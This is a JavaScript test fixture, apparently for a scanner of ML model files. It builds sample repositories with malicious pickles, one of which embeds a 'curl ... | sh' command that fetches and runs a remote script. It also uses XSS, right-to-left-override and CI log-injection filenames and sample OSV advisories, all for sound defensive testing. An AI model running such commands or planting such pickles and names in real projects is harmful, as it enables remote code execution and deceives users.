/** What the pages of the test are about: a repository with everything that a page shows, and one with very many findings. */
import { mkdirSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { maliciousPickle, cleanCheckpoint, lfsPointer, storedZip } from "../models.mjs";

/** A name that tries markup, and one that reads backwards. No `/` may stand in a name, so the tag is one that needs none. */
export const HOSTILE = "<img src=x onerror=alert(1)>&lt;b&gt; @octocat.pkl";
const BACKWARDS = "model-\u202egpj.pkl";

function safetensors() {
  const header = Buffer.from(JSON.stringify({ w: { dtype: "F32", shape: [2], data_offsets: [0, 8] } }).padEnd(64));
  const size = Buffer.alloc(8);
  size.writeBigUInt64LE(BigInt(header.length));
  return Buffer.concat([size, header, Buffer.alloc(8)]);
}

const CARD = `---
license: apache-2.0
datasets:
- allenai/c4
- HuggingFaceH4/ultrachat_200k
base_model: meta-llama/Llama-3.2-1B
language: en
---
# Chat
A small chat model.
`;

const source = 'source = { registry = "https://pypi.org/simple" }';
const locked = (name, version, needs = []) =>
  `[[package]]\nname = "${name}"\nversion = "${version}"\n${source}\n` +
  (needs.length === 0 ? "" : `dependencies = [${needs.map((each) => `{ name = "${each}" }`).join(", ")}]\n`);
const LOCK = [
  'version = 1\nrequires-python = ">=3.10"\n',
  '[[package]]\nname = "chat"\nversion = "0.1.0"\nsource = { virtual = "." }\ndependencies = [{ name = "torch" }, { name = "jinja2" }]\n',
  locked("torch", "2.3.0", ["jinja2", "filelock", "networkx"]),
  locked("jinja2", "3.1.2", ["markupsafe"]),
  locked("markupsafe", "2.1.5"),
  locked("filelock", "3.20.0"),
  locked("networkx", "3.4"),
].join("");

/** One flaw of each of two packages, as OSV writes them. */
const advisory = (id, alias, name, fixed, vector, summary) => ({
  schema_version: "1.6.0",
  id,
  aliases: [alias],
  modified: "2026-01-01T00:00:00Z",
  published: "2025-05-01T00:00:00Z",
  summary,
  severity: [{ type: "CVSS_V3", score: `CVSS:3.1/${vector}` }],
  affected: [
    {
      package: { ecosystem: "PyPI", name },
      ranges: [{ type: "ECOSYSTEM", events: [{ introduced: "0" }, { fixed }] }],
    },
  ],
});
const ADVISORIES = [
  advisory(
    "GHSA-53q9-r3pm-6pq6",
    "CVE-2025-32434",
    "torch",
    "2.6.0",
    "AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
    "torch.load with weights_only=True runs code",
  ),
  advisory(
    "GHSA-h5c8-rqwp-cp95",
    "CVE-2024-22195",
    "jinja2",
    "3.1.3",
    "AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N",
    "attributes by the xmlattr filter",
  ),
];

/** The repository that the pictures show. */
export function writeTree(directory) {
  write(directory, {
    "models/chat/model.safetensors": safetensors(),
    "models/chat/config.json": JSON.stringify({ architectures: ["LlamaForCausalLM"], model_type: "llama" }),
    "models/chat/modeling_chat.py": "import torch\n",
    "models/chat/README.md": CARD,
    "models/sentiment/model.pt": cleanCheckpoint(),
    "models/ranker.pkl": maliciousPickle("curl -s https://203.0.113.7/x.sh | sh"),
    "models/big.safetensors": lfsPointer(),
    "uv.lock": LOCK,
    Dockerfile: `FROM python:3.12-slim@sha256:${"b".repeat(64)}\nCOPY models /models\n`,
    "serve.py": "from transformers import AutoModel\nAutoModel.from_pretrained('a/b', trust_remote_code=True)\n",
  });
}

/** The same with names that try to be more than names. */
export function writeHostileTree(directory) {
  writeTree(directory);
  const command = "</script><script>alert(1)</script><!-- \u2028 ##[error]x";
  write(directory, { [`models/${HOSTILE}`]: maliciousPickle(command), [`models/${BACKWARDS}`]: maliciousPickle("id") });
}

/** So many pickles that run a command. */
export function writeManyFindings(directory, count) {
  const files = Array.from({ length: count }, (_, i) => [`models/m${i}.pkl`, maliciousPickle(`run ${i}`)]);
  write(directory, Object.fromEntries(files));
}

/** OSV's database of the two flaws, as `--osv-database` takes it. */
export function writeDatabase(directory) {
  const records = ADVISORIES.map((record) => [`${record.id}.json`, Buffer.from(JSON.stringify(record))]);
  write(directory, { "PyPI/all.zip": storedZip(Object.fromEntries(records)) });
}

function write(directory, files) {
  for (const [name, content] of Object.entries(files)) {
    const path = join(directory, name);
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, content);
  }
}
